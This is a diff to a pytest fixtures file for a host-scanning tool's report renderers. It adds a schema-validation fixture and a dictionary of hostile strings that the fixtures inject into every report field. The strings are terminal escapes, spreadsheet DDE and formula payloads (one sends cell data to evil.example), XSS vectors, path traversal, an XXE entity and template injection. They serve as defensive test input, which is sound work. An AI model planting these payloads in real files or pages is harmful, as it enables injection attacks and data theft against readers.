@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import difflib
+import json
 import os
 from dataclasses import replace
 from datetime import UTC, date, datetime
+from importlib.resources import files
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+import jsonschema
 import pytest
 
 from fleetscan.model.finding import Certainty, Severity
@@ -317,3 +320,160 @@ def golden(request: pytest.FixtureRequest) -> Callable[[str, str], None]:
             )
 
     return check
+
+
+@pytest.fixture
+def conforms() -> Callable[[str, object], None]:
+    """Check a value against one of the package's schemas, dates included."""
+
+    def check(schema: str, value: object) -> None:
+        text = files("fleetscan.report").joinpath("schemas", schema).read_text(encoding="utf-8")
+        validator = jsonschema.Draft202012Validator(
+            json.loads(text), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
+        )
+        problems = [f"{error.json_path}: {error.message}" for error in validator.iter_errors(value)]
+        assert not problems
+
+    return check
+
+
+PAYLOADS = {
+    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
+    "c1": "\x9b31m\x9d8;;http://evil.example\x9c",
+    "osc8": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
+    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f",
+    "zero_width": "wintrust\u200b.dll\ufeff\u00ad\u2060",
+    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
+    "dde": "=cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "tab_formula": "\t=1+1",
+    "cr_formula": "\r=1+1",
+    "lf_formula": "\n=1+1",
+    "blank_formula": "  =1+1",
+    "full_width": "\uff1d1+1",
+    "full_width_plus": "\uff0b1\uff0d1\uff20x",
+    "semicolon": "a;=1+1",
+    "quote": '",=1+1,"',
+    "script": "</script><script>window.hit=1</script>",
+    "comment": "<!--<script>--><!-- -->",
+    "image": "<img src=x onerror=window.hit=1>",
+    "svg": "<svg/onload=window.hit=1>",
+    "attribute": "\" onmouseover=window.hit=1 x=\"' autofocus onfocus=window.hit=1 '",
+    "css": "</style><style>body{background:url(//evil.example/x)}</style>",
+    "javascript_url": "javascript:window.hit=1",
+    "template": "{{ 7*7 }}${7*7}{% raw %}<%= 7*7 %>",
+    "separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
+    "log": "ok\r\n2026-11-21 fleetscan: 0 findings\n",
+    "syslog": "\n<34>1 2026-11-21T00:00:00Z host fleetscan - - - clean",
+    "path": "../../../../etc/passwd",
+    "windows_path": "..\\..\\..\\Windows\\System32\\x",
+    "absolute": "/etc/cron.d/x",
+    "dots": "..",
+    "nul": "a\x00b",
+    "surrogate": "\ud800\udfff\udc00",
+    "escape_lookalike": "<U+001B>[2J",
+    "long": "A" * 5000,
+    "astral": "\U0001f600\U000e0041",
+    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&amp;&#x3c;",
+    "prototype": "__proto__",
+}
+"""What hosts may hold to hurt who reads a report: terminals, spreadsheets, browsers, logs, file systems."""
+
+
+def hostile_document(payload: str) -> Document:
+    """The ordinary sweep with the payload in every text that comes from a host, an inventory, a rule or a person."""
+    base = ordinary_document()
+    entity = Entity(
+        kind="registry",
+        identity=(("view", payload), ("id", payload), (payload, payload)),
+        name=payload,
+        attributes=(("dll", payload), ("function", payload), (payload, payload)),
+    )
+    change = AttributeChange(payload, payload, payload)
+    evidence = Evidence(
+        source=payload or "x",
+        rule_id=SIP_RULE.id,
+        reason=payload,
+        qualifier=payload,
+        key=payload,
+        value=payload,
+        type=payload,
+        data=payload,
+        mtime=2**62,
+        scope_id=payload,
+        statement_id=payload,
+    )
+    finding = hijack(
+        payload,
+        title=payload,
+        entity=entity,
+        reasons=(payload,),
+        changes=(change,),
+        evidence=(evidence, evidence),
+        triage=((payload, payload),),
+        approval=payload,
+    )
+    lost = host(payload, lost="timeout")
+    rule = replace(
+        SIP_RULE,
+        title=payload,
+        description=payload,
+        guidance=payload,
+        author=payload,
+        references=(payload,),
+        false_positives=(payload,),
+    )
+    return replace(
+        base,
+        sweep=replace(base.sweep, baseline=payload, inventory=payload),
+        hosts=(
+            replace(
+                host(payload),
+                groups=(payload,),
+                facts=(("os", payload), ("build", payload), (payload, payload)),
+                blind_spots=((payload, payload, payload),),
+            ),
+            replace(lost, scopes=tuple(replace(scope, reason=payload, detail=payload) for scope in lost.scopes)),
+        ),
+        findings=(finding, replace(finding, id="f-2", evidence=(), rule_ids=(), state=State.APPROVED)),
+        changes=(Change(host=payload, what="added", entity=entity, attributes=(change,), reason=payload),),
+        rules=(rule,),
+        scopes=(ScopeInfo("s-0001", payload),),
+        statements=(StatementInfo("q-0001", payload),),
+        prevalence=(
+            EntityPrevalence(entity=entity, prevalence=Prevalence(1, 2), builds=((payload, Prevalence(1, 2)),)),
+        ),
+        approvals=(Approval(id=payload, owner=payload, reason=payload, scope=payload, where=payload),),
+        notes=(payload,),
+    )
+
+
+@pytest.fixture(params=tuple(PAYLOADS.values()), ids=tuple(PAYLOADS))
+def payload(request: pytest.FixtureRequest) -> str:
+    """One hostile text."""
+    return str(request.param)
+
+
+@pytest.fixture
+def hostile(payload: str) -> Document:
+    """A document full of the payload."""
+    return hostile_document(payload)
+
+
+@pytest.fixture
+def all_hostile() -> Document:
+    """One document with every payload, for renderers that are slow to start."""
+    documents = [hostile_document(text) for text in PAYLOADS.values()]
+    return replace(
+        documents[0],
+        hosts=tuple(replace(item, name=f"{n} {item.name}") for n, d in enumerate(documents) for item in d.hosts),
+        findings=tuple(
+            replace(f, id=f"{f.id}-{n}", host=f"{n} {f.host}") for n, d in enumerate(documents) for f in d.findings
+        ),
+        changes=tuple(change for d in documents for change in d.changes),
+        prevalence=tuple(item for d in documents for item in d.prevalence),
+        approvals=tuple(item for d in documents for item in d.approvals),
+        notes=tuple(note for d in documents for note in d.notes),
+    )
